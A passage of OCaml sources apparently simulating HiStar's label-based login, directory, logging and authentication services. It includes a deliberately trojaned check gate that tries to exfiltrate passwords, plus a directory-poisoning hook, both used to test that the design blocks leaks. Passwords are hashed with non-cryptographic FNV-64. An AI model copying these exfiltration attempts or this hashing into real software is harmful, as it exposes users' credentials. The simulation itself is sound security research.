    ((ip lsr 24) land 0xff)
    ((ip lsr 16) land 0xff)
    ((ip lsr 8) land 0xff)
    (ip land 0xff)

let v s port = { ip = ip_of_string s; port }
let equal a b = a.ip = b.ip && a.port = b.port
let pp_ip fmt ip = Format.pp_print_string fmt (ip_to_string ip)
let pp fmt t = Format.fprintf fmt "%a:%d" pp_ip t.ip t.port
