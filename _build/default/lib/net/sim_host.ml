type service = {
  port : Addr.port;
  mutable conns : Stack.conn list;
  on_data : t -> Stack.conn -> string -> unit;
  on_eof : t -> Stack.conn -> unit;
}

and t = {
  stack : Stack.t;
  mutable services : service list;
  sink_buf : Buffer.t;
}

let stack t = t.stack
let ip t = Stack.ip t.stack

let poll t =
  List.iter
    (fun svc ->
      (match Stack.accept t.stack ~port:svc.port with
      | Some c -> svc.conns <- c :: svc.conns
      | None -> ());
      List.iter
        (fun c ->
          let data = Stack.recv c in
          if String.length data > 0 then svc.on_data t c data;
          if Stack.recv_eof c then begin
            svc.on_eof t c;
            svc.conns <- List.filter (fun c' -> c' != c) svc.conns
          end)
        svc.conns)
    t.services

let create ~hub ~clock ~ip ~mac () =
  let send = Hub.inject hub in
  let resolve a = Hub.resolve hub a in
  let stack =
    Stack.create ~mac ~ip:(Addr.ip_of_string ip) ~send ~resolve ~clock ()
  in
  let t = { stack; services = []; sink_buf = Buffer.create 64 } in
  Hub.attach hub
    {
      Hub.ep_mac = mac;
      ep_ip = Addr.ip_of_string ip;
      ep_deliver =
        (fun frame ->
          Stack.input stack frame;
          Stack.tick stack;
          poll t);
    };
  t

let add_service t svc =
  Stack.listen t.stack ~port:svc.port;
  t.services <- svc :: t.services

let serve t ~port ~on_data ~on_eof =
  add_service t
    {
      port;
      conns = [];
      on_data = (fun _t c data -> on_data c data);
      on_eof = (fun _t c -> on_eof c);
    }

let serve_file t ~port ~content =
  add_service t
    {
      port;
      conns = [];
      on_data =
        (fun _t c _request ->
          (* any request line triggers the response *)
          Stack.send c content;
          Stack.close c);
      on_eof = (fun _t c -> Stack.close c);
    }

let echo t ~port =
  add_service t
    {
      port;
      conns = [];
      on_data = (fun _t c data -> Stack.send c data);
      on_eof = (fun _t c -> Stack.close c);
    }

let sink t ~port =
  add_service t
    {
      port;
      conns = [];
      on_data = (fun t _c data -> Buffer.add_string t.sink_buf data);
      on_eof = (fun _t c -> Stack.close c);
    }

let sink_data t = Buffer.contents t.sink_buf
