(** Network addresses for the simulated internet. *)

type ip = int
(** 32-bit IPv4-style address stored in an int. *)

type port = int

type t = { ip : ip; port : port }

val ip_of_string : string -> ip
(** Parses dotted-quad notation, e.g. ["10.0.0.1"]. *)

val ip_to_string : ip -> string
val v : string -> port -> t
val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit
val pp_ip : Format.formatter -> ip -> unit
