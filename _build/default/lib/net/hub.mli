(** The simulated wire: a hub connecting endpoints by MAC address, with
    a bandwidth/latency model charged on the shared virtual clock and
    optional random frame loss for exercising retransmission.

    Substitutes for the paper's 100 Mbps Ethernet (§7.2). *)

type t

type endpoint = {
  ep_mac : string;
  ep_ip : Addr.ip;
  ep_deliver : string -> unit;  (** called with the encoded frame *)
}

val create :
  ?bandwidth_bps:float ->
  ?latency_us:float ->
  ?loss_rate:float ->
  ?rng:Histar_util.Rng.t ->
  clock:Histar_util.Sim_clock.t ->
  unit ->
  t
(** Defaults: 100 Mbps, 100 µs latency, no loss. *)

val attach : t -> endpoint -> unit
val detach : t -> mac:string -> unit

val inject : t -> string -> unit
(** Put an encoded frame on the wire: charges transmission time, then
    delivers to the destination MAC (or everyone, for the broadcast MAC
    ["ff:ff:ff:ff:ff:ff"]). Unknown destinations are dropped. *)

val resolve : t -> Addr.ip -> string option
(** MAC for an attached IP (the stand-in for ARP); falls back to the
    default route when set. *)

val set_default_route : t -> mac:string -> unit
(** Deliver frames for unknown IPs to this endpoint (a gateway). *)

val frames_sent : t -> int
val frames_dropped : t -> int
val bytes_sent : t -> int
