lib/disk/disk.ml: Buffer Hashtbl Histar_util Int List Printf String
