lib/disk/disk.mli: Histar_util
