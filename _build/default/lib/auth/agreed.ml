(* The mutually-agreed-upon code of §6.2: both the login client and the
   user's authentication service want this exact function — and nothing
   else — to run with their combined privilege (login's pir ownership
   plus the user's uw ownership) in order to create the retry-count
   segment labeled {pir3, uw0, 1}.

   In real HiStar, login writes this code into a segment, marks the
   segment and its address space immutable, and the user's setup code
   verifies the bytes before invoking the gate. In this simulation the
   gate entry is an OCaml closure; immutability of the code is modeled
   by this function living in a shared library both parties link
   against, plus an immutable marker segment the setup code can check
   (Sys.set_immutable). *)

module Sys = Histar_core.Sys
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
open Histar_core.Types

let retry_bytes = 16

(* TLS request: session container, pir, uw. TLS reply: retry centry. *)
let encode_request ~session ~pir ~uw =
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e session;
  Codec.Enc.i64 e (Histar_label.Category.to_int64 pir);
  Codec.Enc.i64 e (Histar_label.Category.to_int64 uw);
  Codec.Enc.to_string e

let create_retry_segment_entry () =
  let d = Codec.Dec.of_string (Sys.tls_read ()) in
  let session = Codec.Dec.i64 d in
  let pir = Histar_label.Category.of_int64 (Codec.Dec.i64 d) in
  let uw = Histar_label.Category.of_int64 (Codec.Dec.i64 d) in
  let label = Label.of_list [ (pir, Level.L3); (uw, Level.L0) ] Level.L1 in
  let seg =
    Sys.segment_create ~container:session ~label ~quota:4624L ~len:retry_bytes
      "retry count"
  in
  let e = Codec.Enc.create () in
  Proto.enc_centry e (centry session seg);
  Sys.tls_write (Codec.Enc.to_string e);
  Sys.gate_return ()

(* Called by login before invoking the setup gate. Returns the agreed
   gate (label {pir⋆, 1}: combines login's pir ownership with whatever
   the invoking thread owns) plus the immutable code-marker segment the
   service can verify. *)
let install ~container ~pir =
  let marker =
    Sys.segment_create ~container ~label:(Label.make Level.L1) ~quota:4608L
      ~len:32 "agreed code: create_retry_segment v1"
  in
  Sys.segment_write (centry container marker) "create_retry_segment v1";
  Sys.set_immutable (centry container marker);
  let gate =
    Sys.gate_create ~container
      ~label:(Label.of_list [ (pir, Level.Star) ] Level.L1)
      ~clearance:(Label.of_list [ (pir, Level.L3) ] Level.L2)
      ~quota:4096L ~name:"agreed retry-segment gate"
      create_retry_segment_entry
  in
  (centry container gate, centry container marker)

(* The service-side verification that the gate runs only the agreed
   code: checks the marker is immutable and has the expected bytes. *)
let verify ~marker =
  match Sys.segment_read marker () with
  | bytes -> String.length bytes >= 23 && String.sub bytes 0 23 = "create_retry_segment v1"
  | exception Kernel_error _ -> false
