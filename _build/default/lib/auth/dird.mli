(** The directory service (§6.2): maps usernames to the container entry
    of each user's authentication setup gate. Controlled by the system
    administrator but untrusted — login trusts it only to interpret the
    username; handing back the wrong gate can make authentication fail
    or return the wrong credentials, never leak the password. *)

type t

val start : Histar_unix.Process.t -> t

val register :
  t ->
  return_container:Histar_core.Types.oid ->
  user:string ->
  setup_gate:Histar_core.Types.centry ->
  unit

val lookup :
  t ->
  return_container:Histar_core.Types.oid ->
  string ->
  Histar_core.Types.centry option

val poison : t -> user:string -> setup_gate:Histar_core.Types.centry -> unit
(** Host/test hook: make the directory malicious for one user. *)
