module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category
module Codec = Histar_util.Codec
open Histar_core.Types

type outcome =
  | Granted of Process.user
  | Bad_password
  | No_such_user
  | Setup_rejected

let login_via_gate ~proc ~setup_gate ~username ~password =
  let owned_before = Label.owned (Sys.self_label ()) in
  (* pir protects the password; sw controls the session container *)
  let pir = Sys.cat_create () in
  let sw = Sys.cat_create () in
  let session =
    Sys.container_create ~container:(Process.container proc)
      ~label:(Label.of_list [ (sw, Level.L0) ] Level.L1)
      ~quota:1_048_576L "login session"
  in
  let agreed_gate, agreed_marker = Agreed.install ~container:session ~pir in
  (* Step 2: invoke the setup gate. The requested label keeps our own
     ownership (including sw⋆) except pir: the setup code must get
     neither pir's ownership nor pir clearance, or it could stash
     password-readable storage for later (§6.2). *)
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e session;
  Codec.Enc.i64 e (Category.to_int64 pir);
  Proto.enc_centry e agreed_gate;
  Proto.enc_centry e agreed_marker;
  Sys.tls_write (Codec.Enc.to_string e);
  Sys.gate_call ~gate:setup_gate
    ~label:(Label.set (Sys.gate_floor setup_gate) pir Level.L1)
    ~clearance:(Label.set (Sys.self_clearance ()) pir Level.L2)
    ~return_container:session
    ~return_label:(Sys.self_label ())
    ~return_clearance:(Sys.self_clearance ()) ();
  let reply = Sys.tls_read () in
  if String.length reply = 0 then Setup_rejected
  else begin
    let retry, check, grant, challenge = Proto.dec_setup_reply reply in
    ignore retry;
    (* Step 3: hand over the credential, tainted pir3. With a password
       service the password itself crosses (protected by the taint);
       with challenge-response only a one-time answer does — even a
       trojaned service learns nothing reusable. *)
    let credential =
      match challenge with
      | None -> `Password password
      | Some ch ->
          let password_hash =
            Proto.hash_password ~salt:("histar-salt-" ^ username) ~password
          in
          `Response (Proto.challenge_response ~password_hash ~challenge:ch)
    in
    Sys.tls_write (Proto.enc_credential credential);
    Sys.gate_call ~gate:check
      ~label:(Label.set (Sys.gate_floor check) pir Level.L3)
      ~clearance:(Sys.self_clearance ())
      ~return_container:session
      ~return_label:(Sys.self_label ())
      ~return_clearance:(Sys.self_clearance ()) ();
    let ok = Proto.dec_check_reply (Sys.tls_read ()) in
    if not ok then Bad_password
    else begin
      (* Step 4: we now own x; the grant gate's clearance {x0, 2}
         admits us, and its return grants ur/uw. *)
      Sys.gate_call ~gate:grant
        ~label:(Sys.gate_floor grant)
        ~clearance:(Sys.self_clearance ())
        ~return_container:session
        ~return_label:(Sys.self_label ())
        ~return_clearance:(Sys.self_clearance ()) ();
      (* the grant gate reports which categories it granted *)
      let d = Codec.Dec.of_string (Sys.tls_read ()) in
      let ur = Category.of_int64 (Codec.Dec.i64 d) in
      let uw = Category.of_int64 (Codec.Dec.i64 d) in
      let owned_after = Label.owned (Sys.self_label ()) in
      if Category.Set.mem ur owned_after && Category.Set.mem uw owned_after
      then begin
        (* hygiene: drop ownership of the session-local x category *)
        let drop =
          Category.Set.diff owned_after
            (Category.Set.add ur
               (Category.Set.add uw
                  (Category.Set.add pir (Category.Set.add sw owned_before))))
        in
        (try
           Sys.self_set_label
             (Category.Set.fold
                (fun c acc -> Label.set acc c Level.L1)
                drop (Sys.self_label ()))
         with Kernel_error _ -> ());
        (* owning ur/uw lets us raise our clearance in them (§3.1), so
           the session can create objects at the user's labels *)
        Sys.self_set_clearance
          (Label.set (Label.set (Sys.self_clearance ()) ur Level.L3) uw
             Level.L3);
        Granted { Process.user_name = username; ur; uw }
      end
      else Setup_rejected
    end
  end

let login ~proc ~dir ~username ~password =
  match
    Dird.lookup dir ~return_container:(Process.internal proc) username
  with
  | None -> No_such_user
  | Some setup_gate -> login_via_gate ~proc ~setup_gate ~username ~password
