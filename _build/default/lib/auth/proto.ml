(* Message encodings passed through thread-local segments during
   authentication (§6.2). *)

module Codec = Histar_util.Codec
open Histar_core.Types

let enc_centry e (ce : centry) =
  Codec.Enc.i64 e ce.container;
  Codec.Enc.i64 e ce.object_id

let dec_centry d =
  let c = Codec.Dec.i64 d in
  let o = Codec.Dec.i64 d in
  centry c o

let enc_string s =
  let e = Codec.Enc.create () in
  Codec.Enc.str e s;
  Codec.Enc.to_string e

let dec_string s =
  let d = Codec.Dec.of_string s in
  Codec.Dec.str d

(* setup request: session container oid, pir category *)
let enc_setup_req ~session ~pir =
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e session;
  Codec.Enc.i64 e (Histar_label.Category.to_int64 pir);
  Codec.Enc.to_string e

let dec_setup_req s =
  let d = Codec.Dec.of_string s in
  let session = Codec.Dec.i64 d in
  let pir = Histar_label.Category.of_int64 (Codec.Dec.i64 d) in
  (session, pir)

(* setup reply: retry segment, check gate, grant gate, and — when the
   user's service runs in challenge-response mode — a fresh challenge
   the client must answer instead of sending the password *)
let enc_setup_reply ~retry ~check ~grant ~challenge =
  let e = Codec.Enc.create () in
  enc_centry e retry;
  enc_centry e check;
  enc_centry e grant;
  Codec.Enc.option e Codec.Enc.i64 challenge;
  Codec.Enc.to_string e

let dec_setup_reply s =
  let d = Codec.Dec.of_string s in
  let retry = dec_centry d in
  let check = dec_centry d in
  let grant = dec_centry d in
  let challenge = Codec.Dec.option d Codec.Dec.i64 in
  (retry, check, grant, challenge)

(* what the client hands the check gate *)
let enc_credential = function
  | `Password pw ->
      let e = Codec.Enc.create () in
      Codec.Enc.u8 e 0;
      Codec.Enc.str e pw;
      Codec.Enc.to_string e
  | `Response r ->
      let e = Codec.Enc.create () in
      Codec.Enc.u8 e 1;
      Codec.Enc.i64 e r;
      Codec.Enc.to_string e

let dec_credential s =
  let d = Codec.Dec.of_string s in
  match Codec.Dec.u8 d with
  | 0 -> `Password (Codec.Dec.str d)
  | 1 -> `Response (Codec.Dec.i64 d)
  | _ -> failwith "auth: bad credential"

(* response = H(H(password) ‖ challenge): the server stores only the
   hash; the client derives it from the password *)
let challenge_response ~password_hash ~challenge =
  Histar_util.Checksum.fnv64 (Printf.sprintf "%Ld|%Ld" password_hash challenge)

(* check reply: one bit — exactly the information §6.2 permits *)
let enc_check_reply ok =
  let e = Codec.Enc.create () in
  Codec.Enc.bool e ok;
  Codec.Enc.to_string e

let dec_check_reply s =
  let d = Codec.Dec.of_string s in
  Codec.Dec.bool d

(* directory reply: setup gate for a username *)
let enc_dir_reply = function
  | None ->
      let e = Codec.Enc.create () in
      Codec.Enc.bool e false;
      Codec.Enc.to_string e
  | Some gate ->
      let e = Codec.Enc.create () in
      Codec.Enc.bool e true;
      enc_centry e gate;
      Codec.Enc.to_string e

let dec_dir_reply s =
  let d = Codec.Dec.of_string s in
  if Codec.Dec.bool d then Some (dec_centry d) else None

let hash_password ~salt ~password =
  Histar_util.Checksum.fnv64 (salt ^ "\x00" ^ password)
