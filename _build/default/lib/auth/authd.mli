(** The per-user authentication service (§6.2, Figures 9 and 10).

    Each user runs a daemon owning [ur] and [uw]; its job is to grant
    those categories to login clients that authenticate. The service
    exposes a *setup gate*; each invocation (on the login client's
    donated thread) logs the attempt, allocates a fresh category [x],
    and creates three objects in the caller-provided session container:

    - the retry-count segment, labeled [{pir3, uw0, 1}], built through
      the caller's *agreed-code gate* because neither party trusts the
      other with the privileges its label needs;
    - the check gate, labeled [{ur⋆, uw⋆, x⋆, pir3, 1}]: entering it
      taints the thread [pir3], protecting the password — the tainted
      code can neither export the password nor reach the log; on a
      correct password and retry budget it grants [x] back through the
      return gate;
    - the grant gate, clearance [{x0, 2}]: only an owner of [x] can
      enter; it logs the success (which the tainted check gate could
      not) and grants [ur]/[uw] through its return. *)

type t

type mode =
  | Password  (** the client sends the password into the tainted gate *)
  | Challenge_response
      (** §6.2's non-password option: the service issues a challenge
          and the client answers with H(H(password) ‖ challenge) — the
          password itself never leaves the login process at all *)

val start :
  Histar_unix.Process.t ->
  user:Histar_unix.Process.user ->
  password:string ->
  ?retry_limit:int ->
  ?mode:mode ->
  log:Logd.t ->
  dir:Dird.t ->
  unit ->
  t
(** Spawn the daemon (which must be launched by a thread owning the
    user's categories) and register its setup gate with the
    directory. *)

val setup_gate : t -> Histar_core.Types.centry
val set_password : t -> string -> unit
(** Host/test hook: the user changes their password. *)

val trojaned_setup_gate : t -> Histar_core.Types.centry
(** Host/test hook: a *malicious* variant of the setup gate whose check
    gate tries to exfiltrate the password instead of verifying it.
    Used to demonstrate that even then only one bit can leak. *)

val stolen : t -> string list
(** Anything the trojaned check gate managed to exfiltrate (should
    stay empty). *)
