(** The login client (§6.2, Figure 9).

    Runs as part of a web server / sshd-like process that knows a
    username and password and wants ownership of the user's [ur]/[uw].
    Crucially, login trusts **no other component with the password**:
    the password is only ever handed to code running tainted [pir3],
    which can reveal at most one bit (did authentication succeed).

    The four steps:
    + ask the directory for the user's setup gate;
    + invoke the setup gate, granting the session-write category [sw⋆]
      and explicitly *not* [pir] (neither its ownership nor clearance);
      the setup code builds the retry segment (through the agreed-code
      gate), check gate, and grant gate in our session container;
    + invoke the check gate with the password, tainted [pir3]; on
      success the return grants ownership of the fresh category [x];
    + invoke the grant gate (clearance [{x0,2}]), whose return grants
      [ur]/[uw] and logs the success. *)

type outcome =
  | Granted of Histar_unix.Process.user
      (** the calling thread now owns [ur]/[uw] *)
  | Bad_password
  | No_such_user
  | Setup_rejected  (** the service refused (e.g. bad agreed code) *)

val login :
  proc:Histar_unix.Process.t ->
  dir:Dird.t ->
  username:string ->
  password:string ->
  outcome

val login_via_gate :
  proc:Histar_unix.Process.t ->
  setup_gate:Histar_core.Types.centry ->
  username:string ->
  password:string ->
  outcome
(** Like {!login} but with an explicit setup gate — used to model a
    malicious directory handing back a trojaned service. *)
