(** The logging service (§6.2): 58 lines in the paper.

    Maintains an append-only log. The directory and user authentication
    services trust it to keep the log append-only; it trusts them not
    to exhaust space. Its gate has the default clearance [{2}], so a
    password-tainted check gate *cannot* reach it — which is why the
    paper separates the grant gate (which logs successes) from the
    check gate. *)

type t

val start : Histar_unix.Process.t -> t
(** Spawn the daemon from [proc]'s environment. *)

val gate : t -> Histar_core.Types.centry
(** The append gate (waits for the daemon to come up). *)

val append : t -> return_container:Histar_core.Types.oid -> string -> unit
(** Client wrapper: one gate call. *)

val entries : t -> string list
(** The log contents, oldest first (reads the daemon's log segment). *)

val log_segment : t -> Histar_core.Types.centry
(** The backing segment — world-readable, writable only through the
    gate. *)
