module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
open Histar_core.Types

type t = {
  lookup_cell : centry option ref;
  register_cell : centry option ref;
  table : (string, centry) Hashtbl.t;
}

let rec await cell =
  match !cell with
  | Some v -> v
  | None ->
      Sys.yield ();
      await cell

let lookup_entry t () =
  let user = Proto.dec_string (Sys.tls_read ()) in
  Sys.tls_write (Proto.enc_dir_reply (Hashtbl.find_opt t.table user));
  Sys.gate_return ()

let register_entry t () =
  let d = Codec.Dec.of_string (Sys.tls_read ()) in
  let user = Codec.Dec.str d in
  let gate = Proto.dec_centry d in
  Hashtbl.replace t.table user gate;
  Sys.gate_return ()

let start proc =
  let t =
    {
      lookup_cell = ref None;
      register_cell = ref None;
      table = Hashtbl.create 8;
    }
  in
  let _h =
    Process.spawn proc ~name:"dird" (fun daemon ->
        let ct = Process.container daemon in
        let mk name entry =
          centry ct
            (Sys.gate_create ~container:ct ~label:(Label.make Level.L1)
               ~clearance:(Label.make Level.L2) ~quota:4096L ~name entry)
        in
        t.lookup_cell := Some (mk "dir lookup" (lookup_entry t));
        t.register_cell := Some (mk "dir register" (register_entry t));
        ignore (Sys.wait_alert ()))
  in
  t

let call gate ~return_container payload =
  Sys.tls_write payload;
  Sys.gate_call ~gate
    ~label:(Sys.gate_floor gate)
    ~clearance:(Sys.self_clearance ()) ~return_container
    ~return_label:(Sys.self_label ())
    ~return_clearance:(Sys.self_clearance ()) ();
  Sys.tls_read ()

let register t ~return_container ~user ~setup_gate =
  let e = Codec.Enc.create () in
  Codec.Enc.str e user;
  Proto.enc_centry e setup_gate;
  ignore (call (await t.register_cell) ~return_container (Codec.Enc.to_string e))

let lookup t ~return_container user =
  Proto.dec_dir_reply
    (call (await t.lookup_cell) ~return_container (Proto.enc_string user))

let poison t ~user ~setup_gate = Hashtbl.replace t.table user setup_gate
