lib/auth/login.mli: Dird Histar_core Histar_unix
