lib/auth/authd.ml: Agreed Dird Histar_core Histar_label Histar_unix Histar_util Int64 Logd Printf Proto String
