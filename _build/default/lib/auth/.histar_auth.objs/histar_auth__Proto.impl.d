lib/auth/proto.ml: Histar_core Histar_label Histar_util Printf
