lib/auth/dird.ml: Hashtbl Histar_core Histar_label Histar_unix Histar_util Proto
