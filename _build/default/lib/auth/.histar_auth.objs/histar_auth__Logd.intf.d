lib/auth/logd.mli: Histar_core Histar_unix
