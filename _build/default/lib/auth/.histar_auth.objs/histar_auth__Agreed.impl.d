lib/auth/agreed.ml: Histar_core Histar_label Histar_util Proto String
