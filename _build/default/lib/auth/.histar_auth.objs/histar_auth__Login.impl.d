lib/auth/login.ml: Agreed Dird Histar_core Histar_label Histar_unix Histar_util Proto String
