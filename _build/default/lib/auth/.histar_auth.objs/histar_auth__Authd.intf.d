lib/auth/authd.mli: Dird Histar_core Histar_unix Logd
