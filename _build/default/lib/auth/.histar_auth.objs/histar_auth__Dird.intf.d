lib/auth/dird.mli: Histar_core Histar_unix
