lib/auth/logd.ml: Histar_core Histar_label Histar_unix Histar_util List Proto String
