module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category
module Codec = Histar_util.Codec
open Histar_core.Types

type mode = Password | Challenge_response

type t = {
  auth_user : Process.user;
  password_hash : int64 ref;
  salt : string;
  mode : mode;
  retry_limit : int;
  log : Logd.t;
  setup_cell : centry option ref;
  trojan_cell : centry option ref;
  dropbox_cell : centry option ref;
      (** an untainted, attacker-writable segment: the exfiltration
          target for the trojaned check gate *)
  stolen_paths : string list ref;
}

let rec await cell =
  match !cell with
  | Some v -> v
  | None ->
      Sys.yield ();
      await cell

let setup_gate t = await t.setup_cell
let trojaned_setup_gate t = await t.trojan_cell
let stolen t = !(t.stolen_paths)

let set_password t password =
  t.password_hash := Proto.hash_password ~salt:t.salt ~password

let word ce =
  let d = Codec.Dec.of_string (Sys.segment_read ce ~off:0 ~len:8 ()) in
  Codec.Dec.i64 d

let set_word ce v =
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e v;
  Sys.segment_write ce ~off:0 (Codec.Enc.to_string e)

(* --- the check gate: runs tainted pir3 on the login thread --- *)

let check_entry t ~x ~retry ~challenge () =
  let credential = Proto.dec_credential (Sys.tls_read ()) in
  let tries = word retry in
  if Int64.to_int tries >= t.retry_limit then begin
    Sys.tls_write (Proto.enc_check_reply false);
    Sys.gate_return ()
  end
  else begin
    set_word retry (Int64.add tries 1L);
    let ok =
      match (credential, challenge) with
      | `Password password, None ->
          Int64.equal
            (Proto.hash_password ~salt:t.salt ~password)
            !(t.password_hash)
      | `Response r, Some ch ->
          Int64.equal r
            (Proto.challenge_response ~password_hash:!(t.password_hash)
               ~challenge:ch)
      | `Password _, Some _ | `Response _, None ->
          (* wrong credential kind for this service's mode *)
          false
    in
    if ok then begin
      (* grant x through the return gate; the caller becomes an owner *)
      Sys.tls_write (Proto.enc_check_reply true);
      Sys.gate_return ~keep:[ x ] ()
    end
    else begin
      Sys.tls_write (Proto.enc_check_reply false);
      Sys.gate_return ()
    end
  end

(* A *trojaned* check gate: instead of verifying, it tries every kernel
   channel it can think of to exfiltrate the password. Each attempt
   that the kernel permits is recorded — the test asserts none are. *)
let evil_check_entry t ~session () =
  let dropbox = await t.dropbox_cell in
  let password =
    match Proto.dec_credential (Sys.tls_read ()) with
    | `Password pw -> pw
    | `Response r -> Printf.sprintf "response:%Ld" r
  in
  (* 1. write to a world-readable segment pre-created by the attacker *)
  (try
     Sys.segment_write dropbox password;
     t.stolen_paths := ("dropbox:" ^ password) :: !(t.stolen_paths)
   with Kernel_error _ -> ());
  (* 2. append to the authentication log (observable by the admin) *)
  (try
     Logd.append t.log ~return_container:session password;
     t.stolen_paths := ("log:" ^ password) :: !(t.stolen_paths)
   with Kernel_error _ | Invalid_argument _ -> ());
  (* 3. stash the password in a fresh untainted segment in the session *)
  (try
     let seg =
       Sys.segment_create ~container:session ~label:(Label.make Level.L1)
         ~quota:8192L ~len:(String.length password) "stash"
     in
     Sys.segment_write (centry session seg) password;
     t.stolen_paths := ("stash:" ^ password) :: !(t.stolen_paths)
   with Kernel_error _ -> ());
  (* finally report failure, leaking the one permitted bit *)
  Sys.tls_write (Proto.enc_check_reply false);
  Sys.gate_return ()

(* --- the grant gate: entered only by owners of x --- *)

let grant_entry t ~session () =
  (* the tainted check gate could not log; the grant gate can *)
  (try
     Logd.append t.log ~return_container:session
       (Printf.sprintf "login success: %s" t.auth_user.Process.user_name)
   with Kernel_error _ -> ());
  (* category names are not secret; ownership is the protected thing *)
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e (Category.to_int64 t.auth_user.Process.ur);
  Codec.Enc.i64 e (Category.to_int64 t.auth_user.Process.uw);
  Sys.tls_write (Codec.Enc.to_string e);
  Sys.gate_return
    ~keep:[ t.auth_user.Process.ur; t.auth_user.Process.uw ]
    ()

(* --- the setup gate: one invocation per authentication attempt --- *)

let setup_entry t ~evil () =
  let d = Codec.Dec.of_string (Sys.tls_read ()) in
  let session = Codec.Dec.i64 d in
  let pir = Category.of_int64 (Codec.Dec.i64 d) in
  let agreed_gate = Proto.dec_centry d in
  let agreed_marker = Proto.dec_centry d in
  (* log the attempt (we are not tainted yet) *)
  (try
     Logd.append t.log ~return_container:session
       (Printf.sprintf "login attempt: %s" t.auth_user.Process.user_name)
   with Kernel_error _ -> ());
  (* challenge-response mode: a fresh, unpredictable-enough challenge
     derived from the session and the clock *)
  let challenge =
    match t.mode with
    | Password -> None
    | Challenge_response ->
        Some
          (Histar_util.Checksum.fnv64
             (Printf.sprintf "%Ld|%Ld" session (Sys.clock_ns ())))
  in
  (* verify the agreed code before lending it uw ownership *)
  if not (Agreed.verify ~marker:agreed_marker) then begin
    Sys.tls_write "";
    Sys.gate_return ()
  end
  else begin
    let x = Sys.cat_create () in
    (* create the retry-count segment with combined privilege *)
    Sys.tls_write
      (Agreed.encode_request ~session ~pir ~uw:t.auth_user.Process.uw);
    Sys.gate_call ~gate:agreed_gate
      ~label:(Sys.gate_floor agreed_gate)
      ~clearance:(Label.set (Sys.self_clearance ()) pir Level.L3)
      ~return_container:session
      ~return_label:(Sys.self_label ())
      ~return_clearance:(Sys.self_clearance ()) ();
    let retry =
      let d = Codec.Dec.of_string (Sys.tls_read ()) in
      Proto.dec_centry d
    in
    (* the check gate: label {ur⋆, uw⋆, x⋆, pir3, 1}, clearance {pir3, 2} *)
    let check_label =
      Label.of_list
        [
          (t.auth_user.Process.ur, Level.Star);
          (t.auth_user.Process.uw, Level.Star);
          (x, Level.Star);
          (pir, Level.L3);
        ]
        Level.L1
    in
    let check_clearance = Label.of_list [ (pir, Level.L3) ] Level.L2 in
    let entry =
      if evil then evil_check_entry t ~session
      else check_entry t ~x ~retry ~challenge
    in
    let check =
      Sys.gate_create ~container:session ~label:check_label
        ~clearance:check_clearance ~quota:4096L ~name:"check gate" entry
    in
    (* the grant gate: label {ur⋆, uw⋆, 1}, clearance {x0, 2} *)
    let grant_label =
      Label.of_list
        [
          (t.auth_user.Process.ur, Level.Star);
          (t.auth_user.Process.uw, Level.Star);
        ]
        Level.L1
    in
    let grant_clearance = Label.of_list [ (x, Level.L0) ] Level.L2 in
    let grant =
      Sys.gate_create ~container:session ~label:grant_label
        ~clearance:grant_clearance ~quota:4096L ~name:"grant gate"
        (grant_entry t ~session)
    in
    Sys.tls_write
      (Proto.enc_setup_reply ~retry ~check:(centry session check)
         ~grant:(centry session grant) ~challenge);
    Sys.gate_return ()
  end

let start proc ~user ~password ?(retry_limit = 3) ?(mode = Password) ~log
    ~dir () =
  let t =
    {
      auth_user = user;
      password_hash = ref 0L;
      salt = "histar-salt-" ^ user.Process.user_name;
      mode;
      retry_limit;
      log;
      setup_cell = ref None;
      trojan_cell = ref None;
      dropbox_cell = ref None;
      stolen_paths = ref [];
    }
  in
  set_password t password;
  let _h =
    Process.spawn proc ~name:("authd-" ^ user.Process.user_name) ~user
      (fun daemon ->
        let ct = Process.container daemon in
        let setup_label =
          Label.of_list
            [ (user.Process.ur, Level.Star); (user.Process.uw, Level.Star) ]
            Level.L1
        in
        let mk name evil =
          centry ct
            (Sys.gate_create ~container:ct ~label:setup_label
               ~clearance:(Label.make Level.L2) ~quota:4096L ~name
               (setup_entry t ~evil))
        in
        let setup = mk "setup gate" false in
        t.setup_cell := Some setup;
        t.trojan_cell := Some (mk "trojaned setup gate" true);
        let dropbox =
          Sys.segment_create ~container:ct ~label:(Label.make Level.L1)
            ~quota:8704L ~len:64 "trojan dropbox"
        in
        t.dropbox_cell := Some (centry ct dropbox);
        Dird.register dir ~return_container:(Process.internal daemon)
          ~user:user.Process.user_name ~setup_gate:setup;
        ignore (Sys.wait_alert ()))
  in
  t
