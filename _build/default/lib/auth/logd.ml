module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
open Histar_core.Types

type t = {
  gate_cell : centry option ref;
  log_cell : centry option ref;
}

let rec await cell =
  match !cell with
  | Some v -> v
  | None ->
      Sys.yield ();
      await cell

let gate t = await t.gate_cell
let log_segment t = await t.log_cell

(* Append-only enforcement: the log segment is labeled {lw0, 1} where
   only logd's threads own lw; all writes go through the gate entry,
   which only ever appends. *)
let entry_fn log_cell () =
  let msg = Proto.dec_string (Sys.tls_read ()) in
  let log = await log_cell in
  let size = Sys.segment_size log in
  let e = Codec.Enc.create () in
  Codec.Enc.str e msg;
  let blob = Codec.Enc.to_string e in
  Sys.segment_resize log (size + String.length blob);
  Sys.segment_write log ~off:size blob;
  Sys.gate_return ()

let start proc =
  let gate_cell = ref None in
  let log_cell = ref None in
  let _h =
    Process.spawn proc ~name:"logd" (fun daemon ->
        let lw = Sys.cat_create () in
        let log_label = Label.of_list [ (lw, Level.L0) ] Level.L1 in
        let ct = Process.container daemon in
        let log =
          Sys.segment_create ~container:ct ~label:log_label ~quota:1_048_576L
            ~len:0 "authentication log"
        in
        log_cell := Some (centry ct log);
        (* the gate owns lw so entries run with append rights *)
